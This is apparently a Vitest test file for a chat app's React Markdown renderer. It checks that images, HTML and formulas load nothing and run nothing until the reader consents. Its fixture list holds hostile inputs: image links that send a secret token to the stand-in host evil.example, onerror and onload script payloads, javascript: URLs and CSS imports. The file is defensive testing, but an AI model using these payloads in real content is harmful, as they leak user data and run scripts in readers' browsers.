import { act, cleanup, fireEvent, render, screen } from '@testing-library/react';
import fc from 'fast-check';
import { afterEach, beforeAll, expect, test } from 'vitest';
import { Markdown } from './Markdown.tsx';

const remote = 'https://evil.example/p.png?t=secret';

const hostile = [
  `![схема](${remote})`,
  `![схема](<${remote}> "имя")`,
  `![схема][м]\n\n[м]: ${remote}`,
  `![м][]\n\n[м]: ${remote}`,
  `![м]\n\n[м]: <${remote}>`,
  `[![схема](${remote})](https://evil.example/)`,
  `[![м]](${remote})\n\n[м]: ${remote}`,
  `| a |\n| - |\n| ![схема](${remote}) |`,
  `- ![схема](${remote})\n  > ![два](${remote})`,
  `# ![схема](${remote})`,
  `сноска[^1]\n\n[^1]: ![схема](${remote})`,
  `**![схема](${remote})** ~~![x](//evil.example/a)~~`,
  `![вложенная ![схема](${remote})](${remote})`,
  `![схема](HTTPS://EVIL.example/a.png)`,
  `![схема](ht&#116;ps://evil.example/a.png)`,
  `<img src="${remote}">`,
  `<div>\n<img src=${remote} onerror=alert(1)>\n</div>`,
  `<svg><image href="${remote}"/></svg>`,
  `<style>@import url(${remote})</style>`,
  `<iframe src="${remote}"></iframe><video poster="${remote}"></video><link rel=stylesheet href="${remote}">`,
  `$\\includegraphics{${remote}}$ и $\\href{${remote}}{x}$`,
  `$$\n\\htmlStyle{background:url(${remote})}{x}\n$$`,
  `![схема](data:image/svg+xml,<svg/onload=alert(1)>)`,
  `[x](javascript:alert(1)) [y](data:text/html;base64,AAAA) <javascript:alert(1)>`,
  `[x][j]\n\n[j]: javascript:alert(1)`,
];

// Waits for KaTeX, so that the formulas are checked, too.
beforeAll(async () => {
  render(<Markdown text="$x$" />);
  await screen.findByText('x', { selector: 'mi' });
  cleanup();
});
afterEach(cleanup);

const allowedTags = new Set(
  (
    'a blockquote br button code del div em h2 h3 h4 h5 h6 hr input li ol p path pre rect circle line section span ' +
    'strong sup svg table tbody td th thead tr ul math semantics annotation mrow mi mn mo mtext mstyle mspace'
  ).split(' '),
);
const loading = [
  'src',
  'srcset',
  'poster',
  'background',
  'data',
  'xlink:href',
  'style',
  'action',
  'formaction',
];

function expectHarmless(container: HTMLElement) {
  for (const element of container.querySelectorAll('*')) {
    expect(allowedTags).toContain(element.localName);
    for (const name of element.getAttributeNames()) {
      expect(name).not.toMatch(/^on/);
      expect(loading).not.toContain(name);
      if (name === 'href') {
        expect(element.localName).toBe('a');
        expect(element.getAttribute(name)).toMatch(/^(?:https?:|mailto:|tel:|\/(?!\/)|#)/);
      }
    }
  }
}

test('[PRE-17][CHAT-11] no notation, in any chunks, makes a request or runs a script before the reader agrees', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...hostile), { minLength: 1, maxLength: 2 }),
      fc.array(fc.integer({ min: 1, max: 25 }), { minLength: 1, maxLength: 4 }),
      (parts, lengths) => {
        const text = parts.join('\n\n');
        const { container, rerender, unmount } = render(<Markdown text="" streaming />);
        for (let at = 0, turn = 0; at < text.length; turn += 1) {
          at += lengths[turn % lengths.length] ?? 1;
          rerender(<Markdown text={text.slice(0, at)} streaming />);
          expectHarmless(container);
        }
        rerender(<Markdown text={text} />);
        expectHarmless(container);
        unmount();
        return true;
      },
    ),
    { numRuns: 40 },
  );
});

test.each(hostile)('[PRE-17][CHAT-11] %s', (text) => {
  const { container } = render(<Markdown text={text} />);
  expectHarmless(container);
});

test('[PRE-17] a picture loads when the reader agrees, without a referrer', () => {
  render(<Markdown text={`![схема](${remote})`} />);
  fireEvent.click(screen.getByRole('button', { name: 'Показать картинку с evil.example: схема' }));
  const image = screen.getByRole('img', { name: 'схема' });
  expect(image).toHaveProperty('src', remote);
  expect(image.getAttribute('referrerpolicy')).toBe('no-referrer');
});

test('[PRE-17] the consent is for one address: another picture at the same position needs another consent', () => {
  const { container, rerender } = render(<Markdown text="![a](https://one.example/a.png)" streaming />);
  fireEvent.click(screen.getByRole('button', { name: /one\.example/ }));
  expect(screen.getByRole('img', { name: 'a' })).toBeDefined();
  rerender(<Markdown text="![a](https://two.example/a.png)" streaming />);
  expectHarmless(container);
});

test('[PRE-17] the button of a picture in a link is beside the link', () => {
  render(<Markdown text={`[![схема](${remote})](https://example.com/)`} />);
  const link = screen.getByRole('link', { name: /схема/ });
  expect(link.querySelector('button, img')).toBeNull();
  expect(screen.getByRole('button', { name: /Показать картинку с evil\.example/ })).toBeDefined();
});

test('[CHAT-11] a picture that fails to load shows a message', () => {
  render(<Markdown text={`![схема](${remote})`} />);
  fireEvent.click(screen.getByRole('button', { name: /evil\.example/ }));
  act(() => {
    fireEvent.error(screen.getByRole('img', { name: 'схема' }));
  });
  expect(screen.getByRole('status').textContent).toBe('Не удалось загрузить картинку: схема');
});

test.each(['*a ', '~~a '])('[CHAT-11] %j nested 120 times is rendered, streamed and whole', (mark) => {
  const nested = mark.repeat(120) + `a${mark.trim().slice(0, -1)} `.repeat(120);
  for (const streaming of [true, false]) {
    const { container, unmount } = render(<Markdown text={nested} streaming={streaming} />);
    expect(container.textContent?.match(/a/g)).toHaveLength(240);
    unmount();
  }
});
